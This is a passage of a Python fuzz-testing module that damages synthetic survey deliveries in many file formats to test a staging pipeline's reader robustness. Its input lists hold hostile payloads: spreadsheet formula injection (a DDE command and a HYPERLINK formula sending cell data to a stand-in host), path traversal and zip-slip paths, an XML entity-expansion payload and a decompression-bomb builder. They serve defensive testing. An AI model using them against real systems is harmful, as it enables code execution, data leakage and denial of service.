"""A seeded fuzzer over every reader: a good delivery, damaged, must be staged or refused in one sentence.

A case is a number: with the seed it decides the shape, the damage and so every byte of the delivery.
Cases are staged in one process that lives on. It is watched from outside, and killed when a case takes
too long or holds too much memory; after each case it is looked over for what the case left behind.

    python -m tests.fuzz --seed 1 --case 17            one case again; its delivery is kept and named
    python -m tests.fuzz --seed 1 --cases 2000         many, with a table of what became of them
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import functools
import gc
import gzip
import hashlib
import io
import itertools
import json
import multiprocessing
import operator
import os
import random
import re
import resource
import signal
import struct
import sys
import tempfile
import threading
import time
import traceback
import warnings
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, replace
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any
from unittest.mock import patch

import duckdb
import xlsxwriter

from pipelines import reference
from pipelines.contracts import Contract
from pipelines.deliveries import Delivery
from pipelines.errors import DeliveryRefused
from pipelines.judging import cells
from pipelines.readers import delimited as delimited_reader
from pipelines.readers import sheet as sheet_reader
from pipelines.readers import text as text_reader
from pipelines.samples import twins
from pipelines.settings import Settings, load
from pipelines.staging import stage

SECONDS = 30.0  # a case may take no longer
GENERATING = 120.0  # nor may the writing of its delivery, or the start of the process
MEMORY = 2 << 30  # bytes that staging may hold at most
UNIT = 1 if sys.platform == "darwin" else 1024  # of what the system says about memory
LONGEST_SENTENCE = 1_000  # characters: more is no sentence that anybody reads
ROWS = 30
KEY = b"0f" * 32
MARK = "zwartkoninck"  # stands in every delivery, in no heading, and may come out nowhere
MARKER = f"{MARK}.quirijn77@fuzz-voorbeeld.invalid"
PERSON = f"Quirijn {MARK.title()}"  # nothing about it tells that it is somebody's name


# --- tables and shapes ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Table:
    """Heading rows and rows. `whole` as long as the number of rows read is known beforehand."""

    heads: list[list[str]]
    rows: list[list[Any]]
    whole: bool = True

    @property
    def width(self) -> int:
        return len(self.heads[-1])


@dataclass(frozen=True)
class Shape:
    """One way to write the survey: its contract, the delivery as a table, and the bytes of a table."""

    name: str
    suffix: str
    contract: dict[str, Any]
    table: Table
    write: Callable[[Table], bytes]
    good: bytes
    encoding: str = "utf-8"  # of its text; empty: it is binary
    marked: tuple[int, int] = (5, 7)  # the columns of a grade and of an e-mail address; the last one is a name


DUTCH = {"Balie": "physical", "Telefoon": "phone", "E-mail": "email"}
CODES = {"1": "physical", "2": "phone", "3": "email"}
HEAD = {
    "title": "Fuzz",
    "monitor": "klantcontact_monitor",
    "audience": "customer",
    "country": "NL",
    "provenance": "synthetic",
    "controller": "Fuzz",
    "purpose": "test",
    "licence": "MIT",
    "sampling_unit": "organisation",
    "files": "fuzz_*",
    "delivery": {"mode": "append", "order": r"(\d{4})"},
}


def contract(
    form: dict[str, Any],
    names: Sequence[str],
    discard: Sequence[str],
    date: str,
    channels: dict[str, str] = DUTCH,
    organisations: Sequence[str] = (),
    unknown: Sequence[str] = ("weet niet", "98"),
    scores: dict[str, float] | None = None,
    decimal: str = ".",
) -> dict[str, Any]:
    """A contract for the seven columns of the survey, as `names` calls them."""
    response, respondent, organisation, day, channel, grade, score = names
    asked = {"role": "question", "dont_know": list(unknown)}
    columns = {
        response: {"role": "response"},
        respondent: {"role": "respondent"},
        organisation: {"role": "organisation", "values": {o: o for o in organisations}},
        day: {"role": "date", "format": date},
        channel: {"role": "channel", "values": channels},
        grade: {**asked, "measure": "channel_rating", "channel": "row", "not_asked": ["n.v.t."]},
        score: {**asked, "measure": "recommendation", "refused": ["wil niet zeggen"], "values": scores or {}},
    }
    return HEAD | {"format": form, "columns": columns, "discard": list(discard), "decimal": decimal}


def as_csv(delimiter: str, encoding: str, quoting: int = csv.QUOTE_MINIMAL, end: str = "\r\n") -> Any:
    def write(table: Table) -> bytes:
        text = io.StringIO(newline="")
        writer = csv.writer(text, delimiter=delimiter, quoting=quoting, lineterminator=end, escapechar=None)  # type: ignore[arg-type]
        writer.writerows([*table.heads, *table.rows])
        return text.getvalue().encode(encoding, "replace")

    return write


def as_xlsx(table: Table) -> bytes:
    file = io.BytesIO()
    book = xlsxwriter.Workbook(file, {"in_memory": True, "strings_to_numbers": True, "nan_inf_to_errors": True})
    sheet = book.add_worksheet("Tweeling")
    for row, cells_ in enumerate([*table.heads, *table.rows]):
        for column, value in enumerate(cells_[:16_384]):
            if isinstance(value, str) and value.startswith("="):
                sheet.write_formula(row, column, value[:8_000])
            else:
                sheet.write(row, column, value[:32_767] if isinstance(value, str) else value)
    book.close()
    return file.getvalue()


def as_objects(table: Table) -> list[dict[str, Any]]:
    return [dict(zip(table.heads[-1], row, strict=False)) for row in table.rows]


def as_json(objects: Callable[[Table], Any], lines: bool = False) -> Callable[[Table], bytes]:
    def write(table: Table) -> bytes:
        value = objects(table)
        written = [json.dumps(one, ensure_ascii=False) for one in value] if lines else [json.dumps(value)]
        return "\n".join([*written, ""]).encode("utf-8", "surrogatepass")

    return write


def qualtrics_object(row: dict[str, Any]) -> dict[str, Any]:
    return {"responseId": row.pop("responseId", None), "values": row, "labels": {"Q2": "zeven"}, "displayedFields": []}


def surveymonkey_object(row: dict[str, Any]) -> dict[str, Any]:
    known = {key: row.pop(key) for key in ("id", "date_modified", "ip_address") if key in row}
    questions = [{"id": key, "answers": [{"choice_id": None, "text": v}] if v else []} for key, v in row.items()]
    return known | {"response_status": "completed", "pages": [{"id": "1", "questions": questions}]}


def as_statistics(kind: str) -> Callable[[Table], bytes]:
    def write(table: Table) -> bytes:
        import pandas as pd
        import pyreadstat

        columns = {}
        for place, name in enumerate(table.heads[-1][:3_000]):
            values = [row[place] if place < len(row) else "" for row in table.rows]
            numbers = [_as_number(value) for value in values]
            plain = [str(value).replace("\0", " ")[:1_900].encode("utf-8", "replace").decode() for value in values]
            fits = place in (4, 5, 6) and all(n is not None or v == "" for n, v in zip(numbers, values, strict=True))
            legal = re.sub(r"^(?![A-Za-z])", "X", re.sub(r"[^A-Za-z0-9_]", "_", str(name))[:24])
            columns[legal if legal not in columns else f"X{place}"] = numbers if fits else plain
        frame = pd.DataFrame(columns)
        with tempfile.TemporaryDirectory() as folder:
            file = Path(folder) / "file"
            if kind == "dta":
                pyreadstat.write_dta(frame, str(file), version=14)
            else:
                pyreadstat.write_sav(frame, str(file), compress=kind == "zsav")
            return file.read_bytes()

    return write


def as_parquet(table: Table) -> bytes:
    import pyarrow as pa
    from pyarrow import parquet

    columns = []
    for place in range(table.width):
        values = [row[place] if place < len(row) else None for row in table.rows]
        numbers = [_as_number(value) for value in values]
        if place == 5 and all(n is not None or v == "" for n, v in zip(numbers, values, strict=True)):
            columns.append(pa.array(numbers, pa.float64()))
        else:
            columns.append(pa.array([str(v).encode("utf-8", "replace").decode() for v in values], pa.string()))
    file = io.BytesIO()
    parquet.write_table(pa.Table.from_arrays(columns, [str(n) for n in table.heads[-1]]), file)
    return file.getvalue()


def _as_number(value: Any) -> float | None:
    try:
        return float(value)
    except (TypeError, ValueError):
        return None


@functools.cache
def shapes() -> list[Shape]:
    """The good deliveries: the six twins, and the same survey in the shapes that they do not have."""
    with tempfile.TemporaryDirectory() as folder:
        twins.write(Path(folder), ROWS)
        files = {source: next((Path(folder) / source).iterdir()).read_bytes() for source in twins.SOURCES}
    dutch, *body = csv.reader(io.StringIO(files["twin_csv"].decode("cp1252"), newline=""), delimiter=";")
    codes = sorted({row[2] for row in body})
    names, discard = list(dutch[:7]), list(dutch[7:])
    point = [[*r[:5], r[5].replace(",", "."), *r[6:]] for r in body]
    iso = [[*r[:3], f"{r[3][6:]}-{r[3][3:5]}-{r[3][:2]}", *r[4:]] for r in point]
    number = {text: code for code, text in zip(CODES, DUTCH, strict=True)}
    coded = [[*r[:4], number[r[4]], *("98" if c == "weet niet" else c for c in r[5:7]), *r[7:]] for r in iso]
    upper = ["RESPONS", "RESPONDENT", "ORGANISATIE", "DATUM", "KANAAL", "CIJFER", "AANBEVELING", "EMAIL", "NAAM"]
    read = csv.reader(io.StringIO(files["twin_qualtrics_codes"].decode("utf-8-sig"), newline=""))
    q_codes = [list(row) for row in read]
    read = csv.reader(io.StringIO(files["twin_qualtrics_text"].decode("utf-8-sig"), newline=""))
    q_text = [list(row) for row in read]
    ids = [json.loads(cell)["ImportId"] for cell in q_codes[2]]
    mapped = ["Respons", "Respondent", "Organisatie", "startDate", "QID1", "QID2", "QID3"]
    rest = [name for name in ids if name not in mapped]
    marked = (ids.index("QID2"), ids.index("recipientEmail"))
    moment, day, text_day = "%Y-%m-%d %H:%M:%S", "%Y-%m-%d", "%d-%m-%Y"
    ends = {text: float(code) for code, text in twins.NPS_ENDS.items()} | {str(i): float(i) for i in range(1, 10)}
    legacy = [f"V{place}" for place in range(1, 10)]
    monkey = [[*dutch[:5], "Cijfers", "", "Persoon", ""], ["", "", "", "", "", "Cijfer", "Aanbeveling", "Mail", "Naam"]]
    monkey_names = [*dutch[:5], "Cijfers | Cijfer", "Cijfers | Aanbeveling"]
    api = ["id", "11", "12", "date_modified", "13", "14", "15", "ip_address", "16"]
    js = ["responseId", "Resp", "Org", "recordedDate", "Q1", "Q2", "Q3", "mail", "naam"]
    windows = {"kind": "csv", "encoding": "windows-1252", "delimiter": ";"}
    api_rows = [[*r[:4], f"{CODES[r[4]]}", *r[5:]] for r in coded]
    by_code = {code: code for code in CODES.values()}

    def shape(
        name: str,
        suffix: str,
        contract: dict[str, Any],
        table: Table,
        write: Callable[[Table], bytes],
        good: bytes = b"",
        encoding: str = "utf-8",
        marked: tuple[int, int] = (5, 7),
    ) -> Shape:
        return Shape(name, suffix, contract, table, write, good or write(table), encoding, marked)

    def wide(form: dict[str, Any], **more: Any) -> dict[str, Any]:
        return contract(form, mapped, rest, moment, organisations=codes, **more)

    return [
        shape(
            "twin_csv", ".csv", contract(windows, names, discard, text_day, decimal=","),
            Table([dutch], body), as_csv(";", "cp1252"), files["twin_csv"], "cp1252",
        ),
        shape(
            "twin_xlsx", ".xlsx", contract({"kind": "xlsx", "sheet": "Tweeling"}, names, discard, day),
            Table([dutch], iso), as_xlsx, files["twin_xlsx"], "",
        ),
        shape(
            "twin_sav", ".sav", contract({"kind": "spss"}, upper[:7], upper[7:], day, CODES, codes),
            Table([upper], coded), as_statistics("sav"), files["twin_sav"], "",
        ),
        shape(
            "twin_qualtrics_codes", ".csv", wide({"kind": "qualtrics"}, channels=CODES),
            Table(q_codes[:3], q_codes[3:]), as_csv(",", "utf-8", end="\n"), files["twin_qualtrics_codes"],
            marked=marked,
        ),
        shape(
            "twin_qualtrics_text", ".csv", wide({"kind": "qualtrics"}, scores=ends),
            Table(q_text[:3], q_text[3:]), as_csv(",", "utf-8", end="\n"), files["twin_qualtrics_text"],
            marked=marked,
        ),
        shape(
            "twin_jsonl", ".jsonl", contract({"kind": "jsonl"}, names, discard, day, organisations=codes),
            Table([dutch], iso), as_json(as_objects, lines=True), files["twin_jsonl"],
        ),
        shape(
            "csv_utf16", ".csv",
            contract({"kind": "csv", "encoding": "utf-16", "delimiter": "\t"}, names, discard, day),
            Table([dutch], iso), as_csv("\t", "utf-16", csv.QUOTE_ALL), encoding="utf-16",
        ),
        shape(
            "csv_macintosh", ".csv",
            contract({"kind": "csv", "encoding": "mac-roman", "delimiter": "|", "quote": "'"}, names, discard, day),
            Table([dutch], iso), as_csv("|", "mac-roman", end="\r"), encoding="mac-roman",
        ),
        shape(
            "qualtrics_legacy", ".tsv",
            contract({"kind": "qualtrics", "legacy": True, "delimiter": "\t"}, names, discard, day),
            Table([legacy, dutch], iso), as_csv("\t", "utf-8"),
        ),
        shape(
            "surveymonkey", ".csv",
            contract(
                {"kind": "csv", "encoding": "utf-8", "delimiter": ",", "headings": ["group", "name"]},
                monkey_names, ["Persoon | Mail", "Persoon | Naam"], day,
            ),
            Table(monkey, iso), as_csv(",", "utf-8-sig", csv.QUOTE_ALL), encoding="utf-8-sig",
        ),
        shape(
            "zsav", ".zsav", contract({"kind": "spss"}, upper[:7], upper[7:], day, CODES, codes),
            Table([upper], coded), as_statistics("zsav"), encoding="",
        ),
        shape(
            "dta", ".dta", contract({"kind": "stata"}, upper[:7], upper[7:], day, CODES, codes),
            Table([upper], coded), as_statistics("dta"), encoding="",
        ),
        shape(
            "parquet", ".parquet", contract({"kind": "parquet"}, names, discard, day, organisations=codes),
            Table([dutch], iso), as_parquet, encoding="",
        ),
        shape(
            "json", ".json", contract({"kind": "json", "absent": "blank"}, names, discard, day),
            Table([dutch], iso), as_json(as_objects),
        ),
        shape(
            "json_within", ".json", contract({"kind": "json", "rows": "data", "flatten": True}, names, discard, day),
            Table([dutch], iso), as_json(lambda table: {"total": 30, "data": as_objects(table), "next": None}),
        ),
        shape(
            "qualtrics_json", ".json", contract({"kind": "qualtrics_json"}, js[:7], js[7:], day, CODES, codes),
            Table([js], coded), as_json(lambda table: {"responses": list(map(qualtrics_object, as_objects(table)))}),
        ),
        shape(
            "surveymonkey_json", ".json",
            contract(
                {"kind": "surveymonkey_json"}, api[:7], [*api[7:], "response_status"], day, by_code, codes
            ),
            Table([api], api_rows),
            as_json(lambda table: {"data": list(map(surveymonkey_object, as_objects(table))), "page": 1}),
        ),
    ]  # fmt: skip


# --- damage to the table -------------------------------------------------------------------------

ODD = [
    "", " ", "\t", "\xa0", "0", "-0", "+7", "7,5", "7.5", "7,55", "1e3", "1E400", "nan", "Infinity", "-inf", "0x10",
    "999999999", "99999999999999999999", "7" * 400, "٣", "７", "½", "NULL", "null", "None", "true", "-", "@", "\\",
    "\ufeff7", "7\u2028", "\u0085", "\x0b7\x0c", "\x1f", "\x1e7", "\x1a", "\u202e7", "e\u0301", "😀", "<b>7</b>",
    "31-02-2021", "2021-13-45", "0000-00-00", "9999-12-31", "99999-01-01", "2021-06-07T25:61:61Z", "'", "''", "a'; --",
    '{"a": 1}', "[1, 2]", "weet niet", "n.v.t.", "wil niet zeggen", "7\n8", "a\r\nb", "%s%n", "$1", "../../etc",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://fuzz-voorbeeld.invalid/?x="&A2,"klik")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "=A1",
    "=cmd|' /C calc'!A0", '=IMPORTXML("http://fuzz-voorbeeld.invalid/","//a")', "\t=1+1",
]  # fmt: skip

Mend = Callable[[random.Random, Table], Table]


def swap_columns(rng: random.Random, table: Table) -> Table:
    """Two columns change places, their headings with them or not."""
    one, other = rng.sample(range(table.width), 2)

    def swapped(row: list[Any]) -> list[Any]:
        row = list(row)
        if max(one, other) < len(row):
            row[one], row[other] = row[other], row[one]
        return row

    heads = [swapped(head) for head in table.heads] if rng.random() < 0.6 else table.heads
    return replace(table, heads=heads, rows=[swapped(row) for row in table.rows])


def many_columns(rng: random.Random, table: Table) -> Table:
    more = rng.choice([1, 2, 300, 3_000, 17_000])
    name = rng.choice(["", "x", "x{}", "Cijfer", "Naam {}"])
    heads = [[*head, *(name.format(i) for i in range(more))] for head in table.heads]
    return replace(table, heads=heads, rows=[[*row, *[rng.choice(["", "1"])] * more] for row in table.rows])


def fewer_columns(rng: random.Random, table: Table) -> Table:
    gone = rng.randrange(table.width)
    drop = lambda row: [*row[:gone], *row[gone + 1 :]]  # noqa: E731
    return replace(table, heads=[drop(head) for head in table.heads], rows=[drop(row) for row in table.rows])


def odd_cells(rng: random.Random, table: Table) -> Table:
    return _with_cells(rng, table, [rng.choice(ODD) for _ in range(rng.choice([1, 5, 40]))])


def formulas(rng: random.Random, table: Table) -> Table:
    return _with_cells(rng, table, [rng.choice(FORMULAS) for _ in range(rng.choice([1, 5, 40]))])


def big_cell(rng: random.Random, table: Table) -> Table:
    return _with_cells(rng, table, [rng.choice(["7", "x", "é", "=", ";", "\n", '"', "a b "]) * (10 << 20)])


def repeated_rows(rng: random.Random, table: Table) -> Table:
    return replace(table, rows=table.rows * rng.choice([2, 3, 50]))


def no_rows(rng: random.Random, table: Table) -> Table:
    return replace(table, rows=[])


def ragged_rows(rng: random.Random, table: Table) -> Table:
    rows = [list(row) for row in table.rows]
    for row in rng.sample(rows, min(len(rows), 5)):
        if rng.random() < 0.5:
            del row[rng.randrange(1, len(row)) :]
        else:
            row += ["x"] * rng.choice([1, 2, 50])
    return replace(table, rows=rows, whole=False)


def other_headings(rng: random.Random, table: Table) -> Table:
    heads = [list(head) for head in table.heads]
    for _ in range(rng.choice([1, 3])):
        head = rng.choice(heads)
        place = rng.randrange(len(head))
        head[place] = rng.choice([*ODD, *FORMULAS, head[place].upper(), f" {head[place]}", head[place] * 3_000])
    return replace(table, heads=heads, whole=False)


def headings_repeated(rng: random.Random, table: Table) -> Table:
    return replace(table, heads=table.heads * rng.choice([1, 2]) + table.rows[:1])


def _with_cells(rng: random.Random, table: Table, values: Sequence[str]) -> Table:
    rows = [list(row) for row in table.rows]
    for value in values if rows else ():
        row = rng.choice(rows)
        if row:
            row[rng.randrange(len(row))] = value
    return replace(table, rows=rows)


TABLES: list[Mend] = [
    swap_columns, swap_columns, many_columns, fewer_columns, odd_cells, odd_cells, odd_cells, formulas, formulas,
    big_cell, repeated_rows, no_rows, ragged_rows, other_headings, headings_repeated,
]  # fmt: skip


# --- damage to the bytes -------------------------------------------------------------------------

Damage = Callable[[random.Random, bytes, Shape], bytes]


def _block(rng: random.Random, data: bytes) -> tuple[int, int]:
    start = rng.randrange(len(data) + 1)
    return start, min(len(data), start + rng.choice([1, 2, 16, 300, 4_096]))


def cut(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    return data[: rng.choice([rng.randrange(len(data) + 1), max(0, len(data) - rng.randrange(20)), rng.randrange(9)])]


def flip(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    changed = bytearray(data)
    for _ in range(rng.choice([1, 1, 8, 100]) if data else 0):
        place = rng.randrange(len(changed))
        changed[place] = rng.choice([changed[place] ^ (1 << rng.randrange(8)), 0, 255, rng.randrange(256)])
    return bytes(changed)


def duplicate_block(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    start, end = _block(rng, data)
    to = rng.choice([end, rng.randrange(len(data) + 1)])
    return data[:to] + data[start:end] * rng.choice([1, 2, 200]) + data[to:]


def delete_block(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    start, end = _block(rng, data)
    return data[:start] + data[end:]


def insert_nuls(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    place = rng.randrange(len(data) + 1)
    return data[:place] + b"\0" * rng.choice([1, 2, 1_000]) + data[place:]


def insert_much(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    """A cell of 10 MB, or a line longer than any may be."""
    place = rng.randrange(len(data) + 1)
    unit = rng.choice([b"7", b"x", b"\xc3\xa9", b"[", b'{"a":', b'""', b";", b",", b"\n", b"\r", b" ", b'"\n'])
    return data[:place] + unit * ((rng.choice([1, 10, 10, 20]) << 20) // len(unit)) + data[place:]


def insert_rows(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    """Very many rows, few of which fit."""
    places = [place.end() for place in re.finditer(rb"\r?\n|\r|\{", data[:100_000])] or [0]
    place = rng.choice(places)
    row = rng.choice([b"x\n", b";;\n", b"x;x,x\t\n", b'"x"y;\n', b"{}\n", b'{"a":1},', b'"a":1,', data[place:][:200]])
    return data[:place] + row * rng.choice([1_000, 50_000, 500_000 if len(row) < 20 else 9_000]) + data[place:]


def lone_quotes(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    for _ in range(rng.choice([1, 2, 5])):
        place = rng.randrange(len(data) + 1)
        data = data[:place] + rng.choice([b'"', b"'", b'"""', b'\\"', b'";', b'\n"']) + data[place:]
    return data


def odd_bytes(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    place = rng.randrange(len(data) + 1)
    odd = rng.choice(
        [b"\xff\xfe", b"\xef\xbb\xbf", b"\x1f", b"\x1a", b"\x85", b"\xe2\x80\xa8", b"\xc0\x80", b"\xed\xa0\x80", b"\\",
         b"\\ud800", b"\\u0000", b"{}", b"[]", b"null", b"}\n{", b";;;;", b",,,,", b"\t", b"1e999", rng.randbytes(40)]
    )  # fmt: skip
    return data[:place] + odd + data[place:]


def line_ends(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    plain = data.replace(b"\r\n", b"\n").replace(b"\r", b"\n")
    if rng.random() < 0.3:
        ends = itertools.cycle(rng.choices([b"\n", b"\r", b"\r\n"], k=1_000))
        return b"".join(map(operator.add, plain.split(b"\n"), ends))
    return plain.replace(b"\n", rng.choice([b"\r", b"\r\n", b"\n\r", b"\n\n", b"\r\r\n", b"", b"\x0b", b" \n"]))


def other_encoding(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    text = data.decode(shape.encoding or "latin-1", "replace")
    to = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "latin-1", "utf-7", "cp500"]
    return text.encode(rng.choice(to), "replace")


def lines_swapped(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    lines = data.split(b"\n")
    one, other = rng.randrange(len(lines)), rng.randrange(len(lines))
    lines[one], lines[other] = lines[other], lines[one]
    return b"\n".join(lines)


def something_else(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    """The bytes of another shape, or of nothing, under this name."""
    return rng.choice([b"", b"\n", rng.randbytes(5_000), b"<html><body>Log in</body></html>\n", *_others()])


def _others() -> list[bytes]:
    return [shape.good for shape in shapes()]


BYTES: list[Damage] = [
    cut, cut, flip, flip, flip, duplicate_block, delete_block, delete_block, insert_nuls, insert_much, insert_rows,
    lone_quotes, odd_bytes, odd_bytes, line_ends, other_encoding, lines_swapped, something_else,
]  # fmt: skip


def inside_the_workbook(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    """One part of an XLSX file is damaged, not its packing."""
    parts = _parts(data)
    if not parts:
        return data
    names = [name for name in parts if "sheet" in name or "Strings" in name or "styles" in name] or list(parts)
    name = rng.choice(names)
    part = parts[name]
    kind = rng.randrange(8)
    if kind == 0:
        del parts[name]
    elif kind == 1:  # a cell far away
        column, row = (
            rng.choice(["XFD", "ZZ", "J", "A", "CVB", "AU"]),
            rng.choice([1_048_576, 4_000, 30_000, 9_999_999]),
        )
        parts[name] = part.replace(b"</sheetData>", b'<row r="%d"><c r="%s%d"><v>7</v></c></row></sheetData>' % (
            row, column.encode(), row))  # fmt: skip
    elif kind == 2:
        parts[name] = part.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;">]><worksheet', 1).replace(b"<v>", b"<v>&c;&c;")  # fmt: skip
    elif kind == 3:  # indexes into the texts that do not exist
        parts[name] = re.sub(rb"<v>\d+</v>", lambda _: b"<v>%d</v>" % rng.choice([9_999_999, -1, 3]), part)
    elif kind == 4:
        parts[name] = part.replace(b"</sheetData>", b" " * (120 << 20) + b"</sheetData>")
    elif kind == 5:
        parts[name] = re.sub(rb'ref="[^"]*"', b'ref="A1:XFD1048576"', part)
    else:
        parts[name] = rng.choice(BYTES)(rng, part, replace(shape, encoding="utf-8"))
    return _zipped([(name, content) for name, content in parts.items()])


def _parts(data: bytes) -> dict[str, bytes]:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            return {name: book.read(name) for name in book.namelist()}
    except (zipfile.BadZipFile, zlib.error, EOFError, OSError, NotImplementedError, RuntimeError, ValueError):
        return {}  # it was damaged before


def claims(rng: random.Random, data: bytes, shape: Shape) -> bytes:
    """A number near the beginning of a binary file, such as its count of rows, is made large or negative."""
    if len(data) < 200:
        return data
    place = rng.randrange(0, 200)
    size = rng.choice(["<i", "<q", ">i"])
    number = struct.pack(size, rng.choice([-1, 0, 2**31 - 1, 1_000_000_000, 70_000]))
    return data[:place] + number + data[place + len(number) :]


# --- packing -------------------------------------------------------------------------------------


def _zipped(members: Sequence[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method, compresslevel=1) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name, (2021, 12, 20, 9, 0, 0)), content, method)
    return file.getvalue()


def as_zip(rng: random.Random, name: str, data: bytes) -> tuple[str, bytes]:
    method = rng.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
    return f"{name}.zip", _zipped([(name, data)], method)


def as_gzip(rng: random.Random, name: str, data: bytes) -> tuple[str, bytes]:
    if rng.random() < 0.3:  # several members after each other, or something after the last
        half = len(data) // 2
        parts = [gzip.compress(data[:half], 1, mtime=0), gzip.compress(data[half:], 1, mtime=0)]
        return f"{name}.gz", b"".join(parts) + rng.choice([b"", b"\0" * 100, b"rubbish"])
    return f"{name}.gz", gzip.compress(data, 1, mtime=0)


def odd_zip(rng: random.Random, name: str, data: bytes) -> tuple[str, bytes]:
    """Paths that leave, empty members, several members, archives in archives, a lie about the size."""
    inner = _zipped([(name, data)])
    content = rng.choice(
        [
            [(f"../{name}", data)], [(f"../../../../tmp/{name}", data)], [(f"/{name}", data)], [(f"C:\\{name}", data)],
            [(f"a\\..\\..\\{name}", data)], [(name, b"")], [("", data)], [], [("map/", b"")],
            [(name, data), ("README.txt", b"read me")], [(name, data), (name, data)], [(f"{name}.zip", inner)],
            [(f"{name}.gz", gzip.compress(data, 1, mtime=0))], [("map/", b""), (f"map/{name}", data)],
            [("__MACOSX/._x", b"x"), (name, data), (".DS_Store", b"x")], [(f"{MARKER}.csv", data), ("b", b"")],
            [(f"{i}.csv", b"") for i in range(5_000)], [(name, inner)], [("é\n\x1b[31m.csv", data)],
        ]
    )  # fmt: skip
    with warnings.catch_warnings(action="ignore"):  # two members with one name are meant
        archive = bytearray(_zipped(content))
    kind = rng.randrange(6)
    at = archive.find(b"PK\x01\x02")
    if kind == 0 and at >= 0:  # "encrypted"
        archive[at + 8] |= 1
    elif kind == 1 and at >= 0:  # sizes that are not true
        archive[at + 24 : at + 28] = struct.pack("<I", rng.choice([0, 1, 2**32 - 1]))
    elif kind == 2 and at >= 0:  # a method that nobody knows
        archive[at + 10 : at + 12] = struct.pack("<H", rng.choice([1, 9, 99]))
    return f"{name}.zip", bytes(archive)


def bomb(rng: random.Random, name: str, data: bytes) -> tuple[str, bytes]:
    """A small file that unpacks to far over 200 MB."""
    start = data if rng.random() < 0.7 else b""
    filler = rng.choice([b"\0", b"\n", b" ", b"x", b"7;", b'"', b"[", b"{}\n", data[-200:] or b"0", b"9,"])
    block = (filler * ((4 << 20) // len(filler) + 1))[: 4 << 20]
    times = rng.choice([60, 80, 150])
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # depends on nothing before it
    packed += again * times + b"\x03\0"
    sum_ = functools.reduce(lambda crc, _: zlib.crc32(block, crc), range(times), zlib.crc32(start))
    size = len(start) + len(block) * times
    if rng.random() < 0.5:
        head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
        return f"{name}.gz", head + packed + struct.pack("<II", sum_, size & 0xFFFFFFFF)
    written = name.encode()
    common = struct.pack("<HHHHHIIIHH", 20, 0x800, 8, 0, 0x5000, sum_, len(packed), size, len(written), 0)
    local = b"PK\x03\x04" + common + written
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + written
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(packed), 0)
    return f"{name}.zip", local + packed + central + end


# --- one case ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """A delivery, the contract for it, and how it came about."""

    shape: Shape
    name: str
    data: bytes
    damage: list[str]
    rows: int | None  # how many rows must be read if it is staged; None: nobody knows
    block: int = 0  # bytes that are read at a time, so that a small delivery too is read in many pieces; 0: as always


def make(seed: int, number: int) -> Case:
    """The case with this number; a pure function."""
    rng = random.Random(f"{seed}/{number}")
    every = shapes()
    shape = every[number % len(every)]
    how_many = rng.choice([0, 1, 1, 1, 1, 2, 2, 3])
    damage: list[str] = []
    table = shape.table
    rows = [list(row) for row in table.rows]
    grade, personal = shape.marked
    for row in rng.sample(rows, 3):
        row[personal], row[-1] = MARKER, PERSON
    if rng.random() < 0.5:
        rng.choice(rows)[grade] = MARKER
    table = replace(table, rows=rows)
    at_table = [rng.random() < 0.4 for _ in range(how_many)]
    for _ in filter(None, at_table):
        if not table.rows:
            break
        mend = rng.choice(TABLES)
        damage.append(mend.__name__)
        table = mend(rng, table)
    as_made = not damage and rng.random() < 0.5
    data = shape.good if as_made else shape.write(table)
    count = ROWS if as_made else len(table.rows) if table.whole else None
    for there in at_table:
        if there:
            continue
        kinds = list(BYTES)
        if not shape.encoding:
            kinds += [claims] * 3 if shape.suffix != ".xlsx" else [inside_the_workbook] * 20
        harm = rng.choice(kinds)
        damage.append(harm.__name__)
        data, count = harm(rng, data, shape), None
    name = f"fuzz_2021{shape.suffix}"
    block = rng.choice([0, 97, 1_009]) if len(data) < 50_000 else 0
    pack = rng.random()
    if pack < 0.25:
        packing = rng.choices([as_gzip, as_zip, odd_zip, bomb], [4, 4, 3, 2])[0]
        damage.append(packing.__name__)
        name, data = packing(rng, name, data)
        block = 0 if packing is bomb else block
        if packing is not as_zip:
            count = None
        if rng.random() < 0.2:
            harm = rng.choice([cut, flip, delete_block, duplicate_block])
            damage.append(harm.__name__)
            data, count = harm(rng, data, shape), None
